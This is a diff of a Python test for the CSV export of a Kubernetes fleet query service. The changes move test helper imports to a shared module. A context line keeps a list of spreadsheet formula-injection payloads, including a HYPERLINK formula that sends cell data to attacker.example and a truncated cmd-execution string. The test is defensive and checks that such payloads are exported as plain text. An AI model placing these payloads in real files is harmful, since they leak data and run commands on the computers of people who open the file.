@@ -18,8 +18,8 @@ from kubesim.gen.fleet import generate_fleet
 from kubesim.server import KubeSim
 from query.app import create_app
 from query.export import OBJECT_COLUMNS, cell
-from tests.query import simfleet
-from tests.reliability.http import serve
+from tests.support import sims
+from tests.support.http import serve
 
 FLEET = generate_fleet(clusters=1, namespaces=4, seed=5, teams=2)
 ADMIN = {"X-Remote-User": "admin-0", "X-Remote-Group": "fleet-admins"}
@@ -28,7 +28,7 @@ PAYLOADS = ['=HYPERLINK("http://attacker.example/?"&A1,"click")', "+1+cmd|' /C c
 
 @pytest.fixture
 def sim(tmp_path: Path) -> Iterator[KubeSim]:
-    yield from simfleet.running(FLEET, tmp_path)
+    yield from sims.running(FLEET, tmp_path)
 
 
 @pytest.mark.parametrize("text", [*PAYLOADS, "-2+3", "\t=1", "\r=1"])
@@ -46,8 +46,8 @@ def test_a_leaf_written_formula_is_exported_as_text(
     for obj, payload in zip(targets, PAYLOADS, strict=True):
         meta = obj["metadata"]
         sim.set_ready(cluster, "Kustomization", meta["namespace"], meta["name"], False, "", payload)
-    settings: Settings = simfleet.settings_for(tmp_path, redis_url)
-    simfleet.collect(settings)
+    settings: Settings = sims.settings_for(tmp_path, redis_url)
+    sims.collect(settings)
     with serve(create_app(settings)) as host:
         base = f"http://{host}/api/v1/objects"
         resp = requests.get(base, headers={**ADMIN, "Accept": "text/csv"}, timeout=30)
